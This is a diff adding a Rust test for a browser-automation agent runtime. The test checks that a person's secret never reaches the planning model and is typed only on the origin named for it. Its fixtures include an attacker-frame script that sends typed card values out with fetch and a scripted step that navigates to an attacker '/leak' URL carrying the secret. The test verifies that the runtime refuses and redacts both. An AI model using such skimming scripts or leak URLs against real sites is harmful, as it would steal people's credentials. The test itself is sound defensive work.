@@ -1663,3 +1663,148 @@ async fn a_download_nobody_asked_for_lands_nowhere() {
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
 }
+
+/// A planner that follows a script and keeps everything it was shown: the task, each
+/// observation and what became of its last step.
+struct Recording {
+    script: runtime::ScriptedPlanner,
+    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl runtime::Planner for Recording {
+    fn next(&mut self, input: runtime::PlanInput) -> runtime::PlanFuture<'_> {
+        self.seen.lock().unwrap().push(format!(
+            "{}\n{}\n{:?}",
+            input.task,
+            serde_json::to_string(&input.observation).unwrap(),
+            input.last
+        ));
+        self.script.next(input)
+    }
+}
+
+/// Issue 29: a secret a person gives a run apart from its task never reaches the planner — not
+/// from the task (a value written there too becomes its placeholder), not from the page (shown
+/// before typing or echoed after) — and it is typed only into a field on an origin the person
+/// named for it: a field in the attacker's frame, an unknown name and a placeholder outside
+/// `type` are refused, and nothing of it reaches the attacker.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_persons_secret_is_typed_only_where_they_named_and_never_seen_by_the_model() {
+    use runtime::{RunRequest, Scripted};
+    let env = env("hostile-given-secret", true).await;
+    let secret = "pw-given-7Hq2xZ";
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    attacker.html(
+        "/card.html",
+        r#"<!doctype html><input aria-label=Card id=c>
+<script>c.addEventListener('input', () => fetch('/got?v=' + encodeURIComponent(c.value)).catch(() => {}));</script>"#,
+    );
+    env.server.html(
+        "/login.html",
+        format!(
+            r#"<!doctype html><title>Sign in</title>
+<p id=hint>Your recovery phrase is {secret}</p>
+<input type=password aria-label=Password id=p><p id=out>Not signed in</p>
+<iframe src="{evil}/card.html" title=payment></iframe>
+<script>
+p.addEventListener('input', () => {{
+  fetch('/typed?v=' + encodeURIComponent(p.value)).catch(() => {{}});
+  console.error('login failed for ' + p.value);
+  out.textContent = 'Welcome back, your password is ' + p.value;
+}});
+</script>"#
+        ),
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/login.html"))
+        .await
+        .unwrap();
+    crate::observe_until(&env.runtime, &env.session, "Card").await;
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let planner = Recording {
+        script: runtime::ScriptedPlanner::new([
+            // Into the attacker's frame: refused, nothing typed.
+            Scripted::Type("Card".into(), "<secret>password</secret>".into()),
+            // A name the person never gave: refused.
+            Scripted::Type("Password".into(), "<secret>card</secret>".into()),
+            // Outside `type`: refused, never sent as written.
+            Scripted::Navigate(format!("{evil}/leak?p=<secret>password</secret>")),
+            // Where the person named it.
+            Scripted::Type("Password".into(), "<secret>password</secret>".into()),
+            Scripted::Wait(300),
+            Scripted::Done("signed in".into()),
+        ]),
+        seen: seen.clone(),
+    };
+    let mut request = RunRequest::new(format!("Sign in with the password {secret}"));
+    request.assertions = vec![runtime::Assertion::TextPresent {
+        text: "Welcome back".into(),
+    }];
+    let origin = env.server.origin();
+    request.secrets = serde_json::from_value(serde_json::json!({
+        "password": {"value": secret, "origins": [origin]}
+    }))
+    .unwrap();
+    let result = env
+        .runtime
+        .run(&env.session, request, Box::new(planner))
+        .await
+        .unwrap();
+    assert_eq!(
+        result.status(),
+        protocol::RunStatus::Succeeded,
+        "{result:?}"
+    );
+    // Typed where it was named (the person's origin is trusted and named: no approval asked).
+    let typed = env.server.requests_to("/typed");
+    assert!(
+        typed
+            .iter()
+            .any(|r| r.query.as_deref() == Some(&format!("v={secret}"))),
+        "the field got the value: {:?}",
+        typed.iter().map(|r| r.query.clone()).collect::<Vec<_>>()
+    );
+    let reached = reached_after_the_window(&attacker).await;
+    assert!(
+        reached.iter().all(|r| r == "GET /card.html"),
+        "nothing but the frame itself reached the attacker: {reached:?}"
+    );
+    let seen = seen.lock().unwrap().clone();
+    assert_eq!(seen.len(), 6, "{seen:#?}");
+    for (i, shown) in seen.iter().enumerate() {
+        assert!(!shown.contains(secret), "planner input {i}: {shown}");
+    }
+    assert!(
+        seen[0].contains("<secret>password</secret> (only on http://127.0.0.1:"),
+        "the planner is told the placeholder and where it goes: {}",
+        seen[0]
+    );
+    assert!(
+        seen[0].contains("Your recovery phrase is [redacted]"),
+        "the page showed it before it was typed: {}",
+        seen[0]
+    );
+    assert!(
+        seen[1].contains("OriginDenied") && seen[1].contains("may be typed only on"),
+        "{}",
+        seen[1]
+    );
+    assert!(
+        seen[2].contains("InvalidAction") && seen[2].contains("names no secret"),
+        "{}",
+        seen[2]
+    );
+    assert!(
+        seen[3].contains("InvalidAction") && seen[3].contains("only in the text of a `type`"),
+        "{}",
+        seen[3]
+    );
+    assert!(
+        seen[5].contains("Welcome back, your password is [redacted]"),
+        "the echo is redacted: {}",
+        seen[5]
+    );
+    nowhere_a_person_or_the_store_sees(&env, secret);
+    let log = serde_json::to_string(&env.runtime.log(&Default::default()).unwrap()).unwrap();
+    assert!(!log.contains(secret), "the operation log: {log}");
+}
